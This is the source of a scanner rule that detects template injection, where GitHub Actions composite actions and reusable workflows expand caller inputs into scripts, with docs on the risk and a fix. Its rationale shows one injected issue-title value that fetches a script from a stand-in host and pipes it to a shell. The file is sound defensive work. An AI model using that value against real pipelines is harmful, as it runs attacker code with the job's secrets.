// The caller's half of template injection: a composite action or reusable workflow that pastes one
// of its text inputs into a script. Split from `ci/template-injection` because the severity differs:
// the file cannot know whether any caller passes attacker text, only that one may.
import { defineFileRule } from "../../../rule.ts";
import { inputExpansions } from "../local-calls.ts";
import type { WorkflowModel } from "../model.ts";

export const templateInjectionFromInput = defineFileRule<WorkflowModel>({
  id: "ci/template-injection-from-input",
  analyzer: "ci",
  title: "Caller's input expanded into a script of a composite action or reusable workflow",
  severity: "high",
  confidence: "medium",
  lifecycle: "preview",
  cwe: [94, 78],
  controls: ["CI-INJ-01"],
  docs: {
    summary:
      // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub Actions ${{ }} expression syntax, not a JS template
      "A composite action (`runs.using: composite`) or a reusable workflow (`on: workflow_call`) expands one of its text inputs, `${{ inputs.<name> }}`, into a `run:` script or into an input an action runs as code (`actions/github-script` `script:` and the other actions of `CODE_INPUT_ACTIONS`): directly, through `${{ env.X }}`, or through a step output or `$GITHUB_ENV` value set from it. `workflow_call` inputs of `type: boolean` or `number` and `workflow_dispatch` inputs are not reported; neither are inputs used only in `with:`, `if:` or `env:`.",
    whyItMatters:
      // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub Actions ${{ }} expression syntax, not a JS template
      "The action or workflow does not know what its callers pass. As soon as one caller passes text an outsider writes (`with: title: ${{ github.event.issue.title }}`, a pull request's branch name), a title such as `\"; curl evil.sh | sh; #` runs in the job with its token and secrets, and the caller's own file looks safe. Rated below `ci/template-injection`, which reports fields an outsider is known to write.",
    remediation:
      // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub Actions ${{ }} expression syntax, not a JS template
      'Pass the input through an environment variable (`env: TITLE: ${{ inputs.title }}`) and use `"$TITLE"` in the script (`process.env.TITLE` in `github-script`). Declare reusable-workflow inputs that are flags or counts as `type: boolean` or `type: number`.',
    example:
      // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub Actions ${{ }} expression syntax, not a JS template
      '- name: Greet\n  shell: bash\n  env:\n    TITLE: ${{ inputs.title }}\n  run: echo "Title: $TITLE"',
    references: [
      "https://docs.zizmor.sh/audits/#template-injection",
      "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
    ],
  },
  check(ctx) {
    // an attacker-written field in the same expression is `ci/template-injection`'s report
    for (const { expression, where, source } of inputExpansions(ctx.model)) {
      ctx.report({
        message: `${source}, whose value the caller chooses, is expanded into ${where}; pass it through env instead`,
        at: { line: expression.line, column: expression.column },
      });
    }
  },
});
